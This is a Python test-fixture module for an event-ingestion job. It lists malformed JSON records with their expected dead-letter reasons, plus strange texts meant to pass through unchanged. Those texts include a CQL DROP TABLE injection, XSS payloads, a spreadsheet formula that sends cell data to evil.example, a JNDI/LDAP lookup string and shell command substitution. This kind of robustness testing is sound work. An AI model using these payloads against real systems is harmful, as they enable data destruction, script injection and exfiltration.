"""Raw records for the tests of the job: one of each kind of bad input, and good ones with strange content."""

from __future__ import annotations

import json
from typing import Any, NamedTuple

from clicktrail.events import DeadLetterReason as Reason

SITE = "shop.example"
AGENT = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36"
)
BOT_AGENT = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
LONGEST_KEY = 65_471
"""Bytes of the longest visitor or messageId that is taken."""


def event(**changes: Any) -> dict[str, Any]:
    """A valid page call; a change to ``...`` takes the key away."""
    raw: dict[str, Any] = {
        "type": "page",
        "messageId": "m-1",
        "anonymousId": "a-1",
        "userId": "u-1",
        "timestamp": "2024-05-01T10:00:30.123Z",
        "sentAt": "2024-05-01T10:00:31.000Z",
        "context": {
            "page": {"url": f"https://{SITE}/cart?colour=red", "title": "Cart", "referrer": f"https://{SITE}/"},
            "userAgent": AGENT,
            "ip": "192.0.2.77",
            "locale": "en-GB",
        },
        "properties": {"price": 12.5, "quantity": 2, "product_id": "p-9", "name": "Hat", "note": "x"},
    }
    raw |= changes
    return {name: value for name, value in raw.items() if value is not ...}


def to_bytes(raw: object) -> bytes:
    return json.dumps(raw, ensure_ascii=False).encode()


def value(**changes: Any) -> bytes:
    """The bytes of :func:`event`."""
    return to_bytes(event(**changes))


def page(**changes: Any) -> bytes:
    """An event with another ``context.page``."""
    return value(context={"page": changes})


def with_property(text: str) -> bytes:
    """An event with JSON text, valid or not, as the value of a property."""
    return value(properties={"x": "@"}).replace(b'"@"', text.encode())


class Bad(NamedTuple):
    """A record that must become a dead letter."""

    name: str
    value: bytes | None
    reason: Reason


def _deep(levels: int) -> bytes:
    return with_property('{"a":' * levels + "1" + "}" * levels)


BAD: tuple[Bad, ...] = (
    Bad("null value", None, Reason.NULL_VALUE),
    Bad("empty value", b"", Reason.EMPTY_VALUE),
    Bad("spaces alone", b" \r\n\t", Reason.EMPTY_VALUE),
    Bad("a byte that is no UTF-8", value().replace(b"Cart", b"C\xffrt"), Reason.INVALID_UTF8),
    Bad("Latin-1", value(messageId="Zoë").decode().encode("latin-1"), Reason.INVALID_UTF8),
    Bad("UTF-16", value().decode().encode("utf-16"), Reason.INVALID_UTF8),
    Bad("a surrogate alone, as bytes", value().replace(b"Cart", b"\xed\xa0\x80"), Reason.INVALID_UTF8),
    Bad("plain text", b"hello", Reason.NOT_JSON),
    Bad("a Python dict", b"{'type': 'page'}", Reason.NOT_JSON),
    Bad("a comma too many", value()[:-1] + b",}", Reason.NOT_JSON),
    Bad("a surrogate alone, escaped", value().replace(b"Cart", b"\\ud800"), Reason.NOT_JSON),
    Bad("a control character", value().replace(b"Cart", b"Ca\x00rt"), Reason.NOT_JSON),
    Bad("cut in half", value()[: len(value()) // 2], Reason.TRUNCATED_JSON),
    Bad("cut in a character", '{"type": "pagé'.encode()[:-1], Reason.TRUNCATED_JSON),
    Bad("two objects", value() + value(messageId="m-2"), Reason.TRAILING_DATA),
    Bad("two objects on two lines", value() + b"\n" + value(messageId="m-2"), Reason.TRAILING_DATA),
    Bad("an array", to_bytes([event()]), Reason.NOT_AN_OBJECT),
    Bad("a string", b'"page"', Reason.NOT_AN_OBJECT),
    Bad("a number", b"17", Reason.NOT_AN_OBJECT),
    Bad("null", b"null", Reason.NOT_AN_OBJECT),
    Bad("a key twice", value()[:-1] + b', "userId": "u-2"}', Reason.DUPLICATE_KEYS),
    Bad("a key twice, one escaped", value()[:-1] + b', "userI\\u0064": "u-2"}', Reason.DUPLICATE_KEYS),
    Bad("a key twice, spaced", value()[:-1] + b', "userId" : "u-2"}', Reason.DUPLICATE_KEYS),
    Bad("a key twice, deep inside", with_property('[{"a": 1, "a": 1}]'), Reason.DUPLICATE_KEYS),
    Bad("nested 1,000 deep", _deep(1_000), Reason.TOO_DEEP),
    Bad("nested 200 deep", _deep(200), Reason.TOO_DEEP),
    Bad("lists 1,000 deep", with_property("[" * 1_000 + "]" * 1_000), Reason.TOO_DEEP),
    Bad("NaN", with_property("NaN"), Reason.NOT_A_NUMBER),
    Bad("minus infinity", with_property("-Infinity"), Reason.NOT_A_NUMBER),
    Bad("an integer of 65 bits", with_property(str(2**64)), Reason.NUMBER_OUT_OF_RANGE),
    Bad("an unsigned integer of 64 bits", with_property(str(2**63)), Reason.NUMBER_OUT_OF_RANGE),
    Bad("an integer below 64 bits", with_property(str(-(2**63) - 1)), Reason.NUMBER_OUT_OF_RANGE),
    Bad("an integer of 5,000 digits", with_property("9" * 5_000), Reason.NUMBER_OUT_OF_RANGE),
    Bad("a double that overflows", with_property("1e400"), Reason.NUMBER_OUT_OF_RANGE),
    Bad("a quantity over 32 bits", value(properties={"quantity": 2**31}), Reason.NUMBER_OUT_OF_RANGE),
    Bad("messageID", to_bytes(event(messageId=...) | {"messageID": "m-1"}), Reason.WRONG_CASE),
    Bad("all in capitals", value().upper(), Reason.WRONG_CASE),
    Bad("context.UserAgent", value(context={"UserAgent": AGENT}), Reason.WRONG_CASE),
    Bad("context.page.URL", page(URL="https://shop.example/"), Reason.WRONG_CASE),
    Bad("a price in quotes", value(properties={"price": "12.50"}), Reason.WRONG_TYPE),
    Bad("a yes as a quantity", value(properties={"quantity": True}), Reason.WRONG_TYPE),
    Bad("half a quantity", value(properties={"quantity": 1.5}), Reason.WRONG_TYPE),
    Bad("a number as visitor", value(userId=17), Reason.WRONG_TYPE),
    Bad("a number as messageId", value(messageId=17), Reason.WRONG_TYPE),
    Bad("a list as context", value(context=[]), Reason.WRONG_TYPE),
    Bad("a text as page", value(context={"page": "/cart"}), Reason.WRONG_TYPE),
    Bad("a number as path", page(path=404), Reason.WRONG_TYPE),
    Bad("a list as properties", value(properties=[1]), Reason.WRONG_TYPE),
    Bad("a text as campaign", value(context={"campaign": "spring"}), Reason.WRONG_TYPE),
    Bad("an object as timestamp", value(timestamp={}), Reason.WRONG_TYPE),
    Bad("true as timestamp", value(timestamp=True), Reason.WRONG_TYPE),
    Bad("a list as sentAt", value(sentAt=[]), Reason.WRONG_TYPE),
    Bad("an unknown type", value(type="click"), Reason.UNKNOWN_TYPE),
    Bad("a type in another case", value(type="Page"), Reason.UNKNOWN_TYPE),
    Bad("no type", value(type=...), Reason.UNKNOWN_TYPE),
    Bad("no messageId", value(messageId=...), Reason.MISSING_MESSAGE_ID),
    Bad("messageId null", value(messageId=None), Reason.MISSING_MESSAGE_ID),
    Bad("no visitor", value(userId=..., anonymousId=...), Reason.MISSING_VISITOR),
    Bad("visitors null", value(userId=None, anonymousId=None), Reason.MISSING_VISITOR),
    Bad("no timestamp", value(timestamp=...), Reason.MISSING_TIMESTAMP),
    Bad("timestamp null", value(timestamp=None), Reason.MISSING_TIMESTAMP),
    Bad("an empty visitor", value(userId="", anonymousId=""), Reason.EMPTY_KEY),
    Bad("an empty messageId", value(messageId=""), Reason.EMPTY_KEY),
    Bad("a visitor over 65,535 bytes", value(userId="u" * 65_536), Reason.KEY_TOO_LONG),
    Bad("a visitor of too many two-byte letters", value(userId="é" * 32_768), Reason.KEY_TOO_LONG),
    Bad("a messageId over 65,535 bytes", value(messageId="m" * 65_536), Reason.KEY_TOO_LONG),
    Bad("a path over 65,535 bytes", page(path="/" + "p" * 65_535), Reason.KEY_TOO_LONG),
    Bad("a timestamp in words", value(timestamp="yesterday"), Reason.UNREADABLE_TIME),
    Bad("an empty timestamp", value(timestamp=""), Reason.UNREADABLE_TIME),
    Bad("the 30th of February", value(timestamp="2024-02-30T10:00:00Z"), Reason.UNREADABLE_TIME),
    Bad("seconds", value(timestamp=1_714_557_600), Reason.TIME_IN_SECONDS),
    Bad("seconds with a fraction", value(timestamp=1_714_557_600.25), Reason.TIME_IN_SECONDS),
    Bad("1999", value(timestamp="1999-12-31T23:59:59.999Z"), Reason.TIME_BEFORE_2000),
    Bad("1999, as a number", value(timestamp=946_684_799_999), Reason.TIME_BEFORE_2000),
    Bad("the year 1", value(timestamp="0001-01-01T00:00:00Z"), Reason.TIME_BEFORE_2000),
    Bad("2099", value(timestamp="2099-01-01T00:00:00Z"), Reason.TIME_IN_FUTURE),
    Bad("nanoseconds", value(timestamp=1_714_557_600_000_000_000), Reason.TIME_IN_FUTURE),
    Bad("a number beyond all calendars", value(timestamp=1e300), Reason.TIME_IN_FUTURE),
    Bad("an event that grows over a record's limit", value(properties={"x": '"' * 300_000}), Reason.RECORD_TOO_LARGE),
)

TEXTS: dict[str, str] = {
    "NUL": "a\x00b",
    "emoji": "👩‍👩‍👧‍👦🛒🏳️‍🌈",
    "right to left": "שלום \u202eevil\u202c مرحبا",
    "CQL": "'; DROP TABLE clickstream.events_by_user_day; --",
    "HTML": "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "JSON inside": '{"a": [1, "\\":"]}',
    "template": "${jndi:ldap://evil.example/a} {{7*7}} %s %n $(id) `id`",
    "line ends": "a\r\nb\u2028c\td",
    "controls": "".join(map(chr, range(1, 32))) + "\x7f\x85",
    "beyond the BMP": "\U0010fffd𝔘𝔫𝔦",
    "combining": "Z̸̢̛a̴l̷g̶o é é",
    "spaces": "  \u00a0 leading and trailing \u3000 ",
    "quotes": "\"'`´’“„",
    "backslashes": "C:\\new\\table\\u0041",
}
"""Texts that must arrive as they are, and do nothing."""


def weird(name: str) -> bytes:
    """A good event with the text of this name in many of its fields."""
    text = TEXTS[name]
    return value(
        messageId=f"m {text}",
        userId=f"u {text}",
        anonymousId=text,
        event=text,
        context={"page": {"url": f"https://{SITE}/weird", "title": text}, "userAgent": text, "locale": text},
        properties={"category": text, "query": text, "currency": text, text: text},
    )
